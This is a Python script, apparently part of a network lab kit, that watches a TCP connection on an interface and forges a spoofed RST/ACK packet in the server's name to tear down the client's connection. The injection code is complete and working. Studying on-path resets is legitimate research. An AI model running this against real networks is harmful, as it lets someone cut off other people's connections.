"""Forges one reset from the path, in the server's name: after a word on standard input it answers the client's next data.

    forger.py INTERFACE CLIENT SERVER TTL SEQUENCE_OFFSET

It sees the connection as an appliance on the path does, and sends through a raw socket, so the packet passes
the namespace's output hook (the witness) but no TCP of this kernel has made it. IPv4 only.
"""

import ipaddress
import os
import pathlib
import socket
import struct
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

from labkit import pcap  # noqa: E402
from labkit.relay import ones_complement  # noqa: E402

ETH_P_IP = 0x0800


def reset(trigger, ttl, offset):
    """An IPv4 packet that resets the connection of `trigger` in its receiver's name."""
    addresses = b"".join(ipaddress.ip_address(host).packed for host in (trigger.dst[0], trigger.src[0]))
    seq, ack = (trigger.ack + offset) % 2**32, (trigger.seq + trigger.length) % 2**32

    def tcp(checksum):
        flags = pcap.RST | pcap.ACK
        return struct.pack("!HHIIBBHHH", trigger.dst[1], trigger.src[1], seq, ack, 5 << 4, flags, 0, checksum, 0)

    pseudo = addresses + struct.pack("!HH", socket.IPPROTO_TCP, 20)
    body = tcp(~ones_complement(pseudo + tcp(0)) & 0xFFFF)
    identification = int.from_bytes(os.urandom(2), "big") | 1
    return struct.pack("!BBHHHBBH", 0x45, 0, 40, identification, 0, ttl, socket.IPPROTO_TCP, 0) + addresses + body


def main(interface, client, server, ttl, offset):
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    tap.bind((interface, ETH_P_IP))
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("watching", file=sys.stderr, flush=True)
    sys.stdin.readline()
    tap.setblocking(False)
    try:
        while True:
            tap.recv(65536)  # what came before the word is past
    except BlockingIOError:
        tap.setblocking(True)
    while True:
        segment = pcap.decode(0, 0, tap.recv(65536))
        if isinstance(segment, pcap.Segment) and (segment.src[0], segment.dst[0]) == (client, server) and segment.length:
            out.sendto(reset(segment, int(ttl), int(offset)), (client, 0))
            print("forged", flush=True)
            return


if __name__ == "__main__":
    main(*sys.argv[1:])
